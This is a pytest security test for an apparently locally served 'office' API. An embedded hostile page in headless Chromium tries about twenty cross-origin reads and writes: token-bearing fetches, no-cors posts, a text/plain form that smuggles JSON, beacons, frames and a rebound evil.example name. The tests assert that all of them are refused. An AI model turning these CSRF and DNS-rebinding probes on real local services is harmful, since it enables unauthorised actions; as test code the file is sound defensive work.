"""A page of another origin in a real Chromium: it can neither read nor change anything of an office beside it."""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from manydesks.testing.api import ServedOffice

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed"),
]

#: every way that a page has to reach another origin; what each brought back
PAGE = """<!doctype html><meta charset="utf-8"><body><script>
const office = OFFICE, token = TOKEN, said = {};
const message = JSON.stringify({message: "!say I was never here"});
const withToken = {"Authorization": "Bearer " + token};
async function tried(name, attempt) {
  try { said[name] = await attempt(); } catch (error) { said[name] = "refused: " + error.name; }
}
const body = async (answer) => answer.type + " " + answer.status + " " + (await answer.text());
function element(kind, attribute, address) {
  return new Promise((done) => {
    const made = document.createElement(kind);
    made.onload = () => done("loaded");
    made.onerror = () => done("refused");
    made[attribute] = address;
    document.body.append(made);
    setTimeout(() => done("nothing"), 1500);
  });
}
(async () => {
  await tried("get", async () => body(await fetch(office + "/api/queue/status")));
  await tried("get with token", async () => body(await fetch(office + "/api/queue/status", {headers: withToken})));
  await tried("get no-cors", async () => body(await fetch(office + "/api/queue/status", {mode: "no-cors"})));
  await tried("get with credentials", async () =>
    body(await fetch(office + "/api/queue/status", {credentials: "include"})));
  for (const kind of ["text/plain", "application/x-www-form-urlencoded", "application/json"]) {
    await tried("post " + kind, async () => body(await fetch(office + "/api/message",
      {method: "POST", body: message, headers: {"Content-Type": kind}})));
    await tried("post no-cors " + kind, async () => body(await fetch(office + "/api/message",
      {method: "POST", mode: "no-cors", body: message, headers: {"Content-Type": kind}})));
  }
  await tried("post with token", async () => body(await fetch(office + "/api/message",
    {method: "POST", body: message, headers: {"Content-Type": "application/json", ...withToken}})));
  await tried("delete", async () => body(await fetch(office + "/api/agents/assistant", {method: "DELETE"})));
  await tried("put", async () => body(await fetch(office + "/api/settings", {method: "PUT", body: "{}"})));
  await tried("beacon", async () => String(navigator.sendBeacon(office + "/api/message",
    new Blob([message], {type: "application/json"}))).replace("true", "queued"));
  await tried("events", () => new Promise((done) => {
    const events = new EventSource(office + "/api/events/stream?after=0");
    events.onmessage = (event) => done("read " + event.data);
    events.onerror = () => done("refused");
  }));
  await tried("image", () => element("img", "src", office + "/api/queue/status"));
  await tried("script", () => element("script", "src", office + "/api/queue/status"));
  await tried("style", () => new Promise((done) => {
    const made = document.createElement("link");
    made.rel = "stylesheet"; made.href = office + "/api/queue/status";
    made.onload = () => done("loaded"); made.onerror = () => done("refused");
    document.head.append(made);
  }));
  await tried("frame", () => new Promise((done) => {
    const made = document.createElement("iframe");
    made.onload = () => {
      try { done("read " + made.contentDocument.body.innerText); } catch (error) { done("refused: " + error.name); }
    };
    made.src = office + "/api/docs";
    document.body.append(made);
    setTimeout(() => done("nothing"), 3000);
  }));
  await tried("form", () => new Promise((done) => {
    const frame = document.createElement("iframe"); frame.name = "away";
    const form = document.createElement("form");
    form.method = "POST"; form.action = office + "/api/message"; form.target = "away"; form.enctype = "text/plain";
    const input = document.createElement("input");
    input.name = '{"message": "hello", "x": "'; input.value = '"}';
    form.append(input); document.body.append(frame, form);
    frame.onload = () => setTimeout(() => {
      try { done("read " + frame.contentDocument.body.innerText); } catch (error) { done("refused: " + error.name); }
    }, 300);
    form.submit();
  }));
  await fetch("/report", {method: "POST", body: JSON.stringify(said)});
})();
</script>"""


class Hostile:
    """A web server with one page, and what the page told it."""

    def __init__(self, office: str, token: str) -> None:
        page = PAGE.replace("OFFICE", json.dumps(office)).replace("TOKEN", json.dumps(token)).encode()
        told = self.told = threading.Event()
        said = self.said = dict[str, str]()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self) -> None:
                said.update(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.send_response(204)
                self.end_headers()
                told.set()

            def log_message(self, *_: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]


@contextmanager
def hostile(office: str, token: str) -> Iterator[Hostile]:
    made = Hostile(office, token)
    thread = threading.Thread(target=made.server.serve_forever)
    thread.start()
    try:
        yield made
    finally:
        made.server.shutdown()
        made.server.server_close()
        thread.join()


@contextmanager
def browsing(folder: Path, address: str) -> Iterator[None]:
    """Chromium on a page; `evil.example` is this machine, as a name server that lies would have it."""
    assert CHROMIUM is not None
    command = [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
               "--no-proxy-server", f"--user-data-dir={folder}", "--host-resolver-rules=MAP evil.example 127.0.0.1",
               "--remote-debugging-port=0", address]  # fmt: skip
    process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        yield
    finally:
        process.terminate()
        process.wait(20)


@pytest.mark.parametrize("auth", ["token", "none"])
@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "evil.example"])
def test_it_can_neither_read_nor_change_anything(home: Path, tmp_path: Path, auth: str, name: str) -> None:
    office = ServedOffice(home, api__auth=auth)
    office.start()
    try:
        with office.caller() as api:
            # it even knows the token: no other page may use it
            port = httpx.URL(office.url()).port
            before = api.get("/api/events", params={"limit": 1}).json()["head"]
            # a page on another port of the very same name, too
            with (
                hostile(f"http://{name}:{port}", office.token()) as page,
                browsing(tmp_path, f"http://{name}:{page.port}/"),
            ):
                assert page.told.wait(60), "the page has not come to its end"
            assert api.get("/api/events", params={"limit": 1}).json()["head"] == before
    finally:
        office.kill()
    assert len(page.said) == 20
    for way, outcome in page.said.items():
        allowed = outcome.startswith("refused") or outcome in ("nothing", "queued", "opaque 0 ")
        assert allowed or (way == "image" and outcome == "refused"), (way, outcome)


def test_a_name_that_leads_here_by_a_lie_shows_nothing(home: Path, tmp_path: Path) -> None:
    office = ServedOffice(home, api__auth="none")
    office.start()
    try:
        assert CHROMIUM is not None
        port = httpx.URL(office.url()).port
        command = [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                   "--no-proxy-server", f"--user-data-dir={tmp_path}", "--dump-dom",
                   "--host-resolver-rules=MAP evil.example 127.0.0.1",
                   f"http://evil.example:{port}/api/queue/status"]  # fmt: skip
        done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
        assert "not called by this name" in done.stdout
        assert "pending" not in done.stdout
    finally:
        office.kill()
